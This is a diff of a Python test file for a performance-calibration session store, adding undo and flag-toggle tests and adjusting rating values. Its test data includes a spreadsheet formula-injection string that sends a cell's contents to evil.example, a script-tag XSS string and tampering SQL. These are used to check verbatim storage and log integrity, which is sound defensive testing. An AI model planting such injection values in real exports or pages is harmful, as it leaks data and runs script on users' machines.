@@ -8,6 +8,7 @@ from sessions_support import raw_sql
 from calib.inputs.config import load_config
 from calib.sessions import SessionError, StaleVersionError, StoreError, list_sessions, open_session
 from calib.sessions.engine import resolve_store
+from calib.sessions.errors import NothingToChangeError
 from calib.sessions.store import SessionStore
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "<script>alert('x')</script>", "Zoë ✓ \"quoted\"\nline 2"]
@@ -28,7 +29,8 @@ def test_changes_are_recorded_and_state_derived(config, store_url):
     with open_session(config, "q3", store=store_url, by="Ana") as session:
         assert not session.exists and session.events() == []
         first = session.set_rating("E3", "far exceeds", reason="shipped the API", by="Ana")
-        assert (first.seq, first.from_value, first.to_value, first.version) == (2, "Exceeds", "Far exceeds", 1)
+        # E3 was submitted Exceeds and calibrated Meets: the session starts from Meets
+        assert (first.seq, first.from_value, first.to_value, first.version) == (2, "Meets", "Far exceeds", 1)
         both = session.change("E3", rating="Meets", potential="HIGH", reason="peers", by="Bo", expect_version=1)
         assert [(e.kind, e.from_value, e.to_value, e.version) for e in both] == [
             ("rating", "Far exceeds", "Meets", 2),
@@ -39,9 +41,10 @@ def test_changes_are_recorded_and_state_derived(config, store_url):
         session.mark_discussed("E4", by="Ana")
         table = session.table().set_index("employee_id")
         assert list(table.index) == ["E2", "E3", "E4", "E5", "E6", "E7"]
-        assert table.loc["E3", ["submitted_rating", "rating", "version", "potential"]].tolist() == [
-            "Exceeds", "Meets", 3, "high"
+        assert table.loc["E3", ["submitted_rating", "start_rating", "rating", "version", "potential"]].tolist() == [
+            "Exceeds", "Meets", "Meets", 3, "high"
         ]
+        assert not table.loc["E3", "rating_changed"] and table.loc["E3", "potential_changed"]  # back where it began
         assert table.loc["E4", ["rating", "version", "flagged", "discussed", "notes"]].tolist() == [
             "Meets", 0, True, True, "mentored Ed"
         ]
@@ -50,10 +53,38 @@ def test_changes_are_recorded_and_state_derived(config, store_url):
     assert [s.name for s in list_sessions(config, store_url)] == ["q3"]
 
 
+def test_undo_and_toggles_are_new_events_and_the_state_follows(config, store_url):
+    with open_session(config, "q3", store=store_url, by="Ana") as session:
+        session.change("E3", rating="Exceeds", potential="high", reason="led the migration", by="Ana")
+        session.set_rating("E5", "Meets", reason="grew", by="Bo")
+        undone = session.undo("E3", reason="recorded for the wrong person", by="Ana", expect_version=2)
+        assert [(e.kind, e.from_value, e.to_value, e.version) for e in undone] == [
+            ("undo_rating", "Exceeds", "Meets", 3),
+            ("undo_potential", "high", None, 4),
+        ]
+        with pytest.raises(NothingToChangeError, match="no change in this session to undo"):
+            session.undo("E3", reason="again", by="Ana")
+        session.flag("E4", by="Bo")
+        with pytest.raises(NothingToChangeError, match="already flagged"):
+            session.flag("E4", by="Bo")  # a second press records nothing
+        session.flag("E4", by="Bo", on=False)
+        session.mark_discussed("E4", by="Ana")
+        table = session.table().set_index("employee_id")
+        assert table.loc["E3", ["start_rating", "rating", "potential", "version"]].tolist() == [
+            "Meets", "Meets", None, 4
+        ]
+        assert not table.loc["E3", "rating_changed"] and not table.loc["E3", "potential_changed"]
+        assert table.loc["E4", ["flagged", "discussed"]].tolist() == [False, True]
+        assert [e.kind for e in session.events()] == [
+            "open", "rating", "potential", "rating", "undo_rating", "undo_potential", "flag", "flag", "discussed"
+        ]
+        assert session.verify().ok
+
+
 def test_hostile_reasons_are_stored_verbatim(config, store_url):
     with open_session(config, "q3", store=store_url, by="Ana") as session:
         for i, text in enumerate(HOSTILE):
-            session.set_rating("E3", ["Meets", "Exceeds"][i % 2], reason=text, by=text.replace("\n", " "))
+            session.set_rating("E3", ["Exceeds", "Meets"][i % 2], reason=text, by=text.replace("\n", " "))
         session.note("E4", HOSTILE[1], by="Bo")
     with open_session(config, "q3", store=store_url) as reread:
         reasons = [e.reason for e in reread.events() if e.kind in ("rating", "note")]
@@ -66,7 +97,7 @@ def test_a_stale_version_is_refused_with_who_and_when(config, store_url):
         config, "q3", store=store_url, by="Bo"
     ) as bo:
         seen = ana.table().set_index("employee_id").loc["E3", "version"]
-        bo.set_rating("E3", "Meets", reason="calibrated down", by="Bo", expect_version=int(seen))
+        bo.set_rating("E3", "Partially meets", reason="calibrated down", by="Bo", expect_version=int(seen))
         with pytest.raises(StaleVersionError) as refused:
             ana.set_rating("E3", "Far exceeds", reason="calibrated up", by="Ana", expect_version=int(seen))
         message = str(refused.value)
@@ -77,7 +108,7 @@ def test_a_stale_version_is_refused_with_who_and_when(config, store_url):
 
 def test_a_locked_session_refuses_every_change(config, store_url):
     with open_session(config, "q3", store=store_url, by="Ana") as session:
-        session.set_rating("E3", "Meets", reason="r", by="Ana")
+        session.set_rating("E3", "Exceeds", reason="r", by="Ana")
         session.lock(by="Fa", reason="meeting over")
         for attempt in (
             lambda: session.set_rating("E4", "Exceeds", reason="late", by="Bo"),
@@ -134,7 +165,7 @@ def test_reading_a_missing_session_is_an_error(config, store_url):
 
 def test_the_log_refuses_update_and_delete(config, store_url, server):
     with open_session(config, "q3", store=store_url, by="Ana") as session:
-        session.set_rating("E3", "Meets", reason="r", by="Ana")
+        session.set_rating("E3", "Exceeds", reason="r", by="Ana")
     for sql in (
         "UPDATE session_events SET reason = 'rewritten' WHERE seq = 2",
         "DELETE FROM session_events WHERE seq = 2",
@@ -159,7 +190,7 @@ DROP = {
 
 def _tampered(config, store_url, server, sql: str):
     with open_session(config, "q3", store=store_url, by="Ana") as session:
-        session.set_rating("E3", "Meets", reason="shipped", by="Ana")
+        session.set_rating("E3", "Exceeds", reason="shipped", by="Ana")
         session.set_rating("E4", "Exceeds", reason="led", by="Bo")
         session.set_rating("E5", "Meets", reason="grew", by="Cy")
         assert session.verify().ok
@@ -193,7 +224,7 @@ def test_the_default_store_and_the_configs_store(tiny_cycle, tmp_path, monkeypat
     assert resolve_store(configured) == str(tmp_path / "store" / "s.sqlite")
     assert resolve_store(configured, "postgresql://h/db") == "postgresql://h/db"
     with open_session(configured, "q3", by="Ana") as session:
-        session.set_rating("E3", "Meets", reason="r", by="Ana")
+        session.set_rating("E3", "Exceeds", reason="r", by="Ana")
     assert (tmp_path / "store" / "s.sqlite").is_file()
 
 
